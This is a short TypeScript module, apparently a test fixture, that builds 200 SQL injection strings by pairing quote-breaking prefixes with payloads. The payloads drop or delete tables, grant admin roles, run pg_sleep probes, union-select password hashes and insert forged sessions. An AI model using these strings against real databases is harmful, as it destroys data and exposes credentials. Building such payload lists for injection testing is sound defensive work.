/** How a word could break out of a statement, and what would then be done. */
const exits = [
  "'",
  "')",
  "'))",
  '"',
  '")',
  '`',
  '\\',
  "\\'",
  '',
  '0',
  "x'",
  '$$',
  '%',
  '*/',
  "'||'",
  ' ',
  ';',
  "1'",
  '1)',
  'null',
]
const acts = [
  ' or 1=1 --',
  '; drop table users; --',
  '; delete from orders; --',
  "; update users set role = 'admin'; --",
  '; select pg_sleep(3); --',
  ' or (select 1 from pg_sleep(3)) is not null --',
  "||(select pg_sleep(3)::text)||'",
  ' union select null, password_hash from users --',
  ' order by (select 1/0) --',
  "; insert into sessions values ('f', null, now(), now()); --",
]

/** Two hundred words that would do something if any of them were read as SQL. */
export const sqlPayloads: readonly string[] = exits.flatMap((exit) => acts.map((act) => `${exit}${act}`))
